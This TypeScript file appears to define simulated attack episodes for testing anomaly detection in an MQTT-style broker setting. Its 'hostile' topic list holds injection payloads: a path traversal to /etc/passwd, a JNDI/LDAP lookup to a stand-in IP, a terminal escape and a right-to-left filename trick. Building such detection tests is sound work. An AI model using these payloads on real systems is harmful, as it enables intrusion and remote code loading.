import { SECOND } from '../calendar.ts';
import { attack, compromised, type Episode, type Stage, victim } from '../episode.ts';

/** A device publishes on topics that nobody expects of it, one every 15 seconds (rows 18 and 19). */
const odd = (name: string, topics: (stage: Stage) => readonly string[]): Episode =>
  attack(name, 10, function* (stage) {
    const voice = compromised(victim(stage), stage);
    for (let left = 10; left > 0; left -= 1) {
      for (const topic of topics(stage)) {
        stage.scene.broker.publish(voice, topic, 200);
        yield 15 * SECOND * stage.random.between(0.8, 1.2);
      }
    }
  });

/** What a broker passes on and a careless reader stumbles over. */
const hostile = () => [
  'devices/../../etc/passwd',
  'devices/${jndi:ldap://203.0.113.250/a}',
  'devices/\u001b[2J/telemetry',
  'devices/\u202etxt.exe/status',
];

/** Well formed, and new. */
const novel = ({ random }: Stage) => [
  `dump/${random.hex(16)}/chunk`,
  'shell/stdout',
  'config/export/full',
  `backup/keys/${random.integer(1, 99)}`,
];

export const oddTopics: readonly Episode[] = [odd('topics-hostile', hostile), odd('topics-novel', novel)];
